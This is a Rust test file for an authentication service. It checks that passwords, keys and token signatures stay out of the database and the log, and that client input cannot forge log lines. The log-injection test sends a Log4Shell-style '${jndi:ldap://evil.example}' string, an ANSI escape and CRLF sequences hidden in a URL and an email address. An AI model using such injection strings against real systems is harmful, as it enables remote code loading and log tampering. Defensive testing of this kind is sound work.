//! Secrecy: after everything has been done, no secret is anywhere but where it must be.

use authsome::store::Location;
use serde_json::json;

use crate::support::app::TestApp;
use crate::support::client::Asks;
use crate::support::dump::{documents, holds};
use crate::support::exchange::MARK;
use crate::support::log;
use crate::support::persona::{Administers, Person};
use crate::support::raw;
use crate::support::stores::on_both_stores;

on_both_stores! {
    async fn no_secret_is_in_the_database(app: TestApp) {
        let secrets = everything_is_done(&app).await;

        let contents = dump(&app).await;

        assert!(holds(&contents, "mia@example.org"), "the dump is of another database");
        for (name, secret) in secrets {
            assert!(!holds(&contents, &secret), "{name} is in the database");
        }
    }

    async fn no_secret_and_no_address_is_in_the_log(app: TestApp) {
        let secrets = everything_is_done(&app).await;
        let id = app.get("/nowhere").await.header("x-request-id").unwrap().to_owned();

        assert_eq!(log::lines_with(&id).len(), 1, "the log is of another server");
        for (name, secret) in secrets {
            let found = log::lines_with(&secret);
            assert!(found.is_empty(), "{name} is in the log: {found:?}");
        }
        let found = log::lines_with("@example.org");
        assert!(found.is_empty(), "an address is in the log: {found:?}");
    }

    async fn what_a_client_makes_up_cannot_pass_for_a_line_of_the_log(app: TestApp) {
        let evil = "User-Agent: x\u{1b}[31m{\"level\":\"ERROR\"}${jndi:ldap://evil.example}";

        let request = raw::request("GET /livez", &[evil.to_owned()], b"");
        raw::exchange(app.client().address(), &request);
        app.get(&format!("/nowhere?{}", "%0d%0a%7bjndi%7d")).await.refuses(404, "not_found");
        let visitor = app.visitor(&app.own.development);
        visitor.signs_in("x\r\n{jndi}@example.org", "x").await.refuses(400, "invalid_email");

        assert!(log::lines_with("jndi").is_empty());
        assert!(log::lines_with("\u{1b}").is_empty());
    }
}

/// Every flow once; the secrets that were seen on the way, by name.
async fn everything_is_done(app: &TestApp) -> Vec<(&'static str, String)> {
    let mia = app.person("mia@example.org").await;
    let first = mia.tokens();
    mia.signs_in().await.told(200);
    let _ = mia.refreshes().await.expect(200);
    let second = mia.tokens();
    mia.presents(&first.refresh).await.told(200);
    let replayed = mia.presents(&first.refresh).await;
    replayed.refuses(401, "refresh_token_reused");
    what_is_refused(&mia).await;
    let _ = app.key().assigns(&mia.id, &["ADMIN"]).await.expect(200);
    let _ = mia.refreshes().await.expect(200);
    let by_address = mia.get("/v1/admin/users?email=mia@example.org").await;
    by_address.told(200);
    let (last, operator) = (mia.tokens(), app.operator().await.tokens());
    let _ = mia.signs_out().await.expect(204);
    let signature = |token: &str| token.rsplit('.').next().unwrap_or_default().to_owned();
    vec![
        ("a password", MARK.to_owned()),
        ("the operator's password", app.operator.password.clone()),
        ("a secret key", app.own.development.secret_key.clone()),
        ("a replayed refresh token", signature(&first.refresh)),
        ("a spent refresh token", signature(&second.refresh)),
        ("the last refresh token", signature(&last.refresh)),
        ("an access token", signature(&first.access)),
        ("an operator's access token", signature(&operator.access)),
        ("an operator's refresh token", signature(&operator.refresh)),
    ]
}

/// Passwords in every place where one is refused.
async fn what_is_refused(mia: &Person) {
    let visitor = mia.visitor();
    let wrong = visitor.signs_in(&mia.email, "another quiet river").await;
    wrong.refuses(401, "invalid_credentials");
    let taken = visitor.signs_up(&mia.email, "a third quiet river").await;
    taken.refuses(409, "email_taken");
    let change = json!({"password": "a fourth quiet river"});
    let change = mia.patch("/v1/me").json(change).await;
    change.refuses(400, "unknown_field");
    let body = r#"{"email":"mia@example.org","password":"a fifth quiet river"x}"#;
    let body = visitor.post("/v1/signin").body("application/json", body);
    body.await.refuses(400, "malformed_json");
}

/// Every byte that the database keeps, also of what was deleted where it is in files.
async fn dump(app: &TestApp) -> Vec<u8> {
    match app.location() {
        Location::Mongo(_) => documents(app).await,
        Location::Sqlite(path) => {
            let folder = path.parent().expect("a file is in a folder");
            let files = std::fs::read_dir(folder).expect("the folder is there");
            let read = |file: std::io::Result<std::fs::DirEntry>| {
                std::fs::read(file.unwrap().path()).unwrap()
            };
            files.flat_map(read).collect()
        }
        Location::Memory => Vec::new(),
    }
}
